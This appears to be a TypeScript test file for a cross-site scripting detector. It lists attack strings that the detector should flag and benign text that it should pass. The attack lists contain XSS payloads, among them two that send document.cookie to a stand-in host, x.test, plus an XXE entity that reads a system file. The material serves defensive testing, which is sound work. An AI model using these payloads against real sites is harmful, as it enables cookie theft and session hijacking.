// Cross-site scripting detector: markup, handlers and script URLs, against
// ordinary text that contains angle brackets, links and dots.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectXss } from '../../../src/detection/detectors/xss.js';
import { testDetector } from './cases.js';

testDetector('xss', detectXss, {
  attacks: [
    '<script>fetch("//x.test/"+document.cookie)</script>',
    '<svg/onload=print()>',
    '<img src=x onerror=alert(9)>',
    '"><iframe srcdoc="&lt;b&gt;">',
    "' onfocus='top.alert(1)' autofocus='",
    'javascript:void(open())',
    'java\tscript:run()',
    '<a href="vbscript:msgbox(1)">',
    '<div style="width: expression(alert(1))">',
    '<f o r m action=//x.test>',
    'self["alert"](1)',
    'document /*x*/ . cookie',
    '{{constructor.constructor("run()")()}}',
    '(![]+[])[+!+[]]',
    '<!ENTITY ext SYSTEM "file:///etc/hostname">',
    '<a href="javascript:run()">x</a>',
    '<p style="x:expression(run())">',
  ],
  benign: [
    'a < b and c > d',
    'See https://example.com/docs?page=2',
    'Use <b>bold</b> sparingly',
    '<p>Hello</p>',
    'version 1.2.3 released',
    'on sale = 20% off',
    'Mr. Smith went to Washington.',
    'x = [1, 2, 3]',
    'Read <a href="https://example.com/guide">the guide</a>',
    '<span title="note">Note</span>',
  ],
});

// Media tags, plain inline styles and base64 SVG images in rich text run no
// script; DOM names in a sentence are a search.
testDetector('xss rich text and prose', detectXss, {
  attacks: [
    '<img src=x onerror=alert(1)>',
    '<video><source onerror="alert(1)">',
    '<p style="background:url(//x.test/a)">',
    '<div style="position:fixed;top:0">',
    `data:image/svg+xml;base64,${Buffer.from('<svg onload=alert(1)>').toString('base64')}`,
    "';location.href='//x.test/?'+document.cookie;//",
    'x=document.cookie',
  ],
  benign: [
    '<img src="/media/cat.png" alt="A cat">',
    '<span style="color: #c00; font-weight: bold">Sale</span>',
    `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>').toString('base64')}`,
    'why is document.cookie empty in safari',
    'window.location.href redirect not working',
    'back to top.',
  ],
});

// Tags are scanned once each, from `<` to `>`: an attribute after a second
// `<` in an unclosed tag, or in a later tag, is still found.
for (const [name, text] of [
  ['attribute after a stray tag start', '<a <b onclick=alert(1)>'],
  ['unclosed tag before a handler', '<a href=x <img src=x onerror=alert(1)>'],
  ['text before the tag', 'if a < b then <img src=x onerror=alert(1)>'],
  ['closed tag first', '<b>bold</b><img src=x onerror=alert(1)>'],
  ['active style', '<div style="background:url(javascript:alert(1))">'],
  ['namespace in a later tag', '<root><x:y xmlns:x="http://x.test/ns">'],
] as const) {
  test(`xss tag scan: ${name}`, () => {
    assert.notEqual(detectXss(text, 'query.q'), null);
  });
}
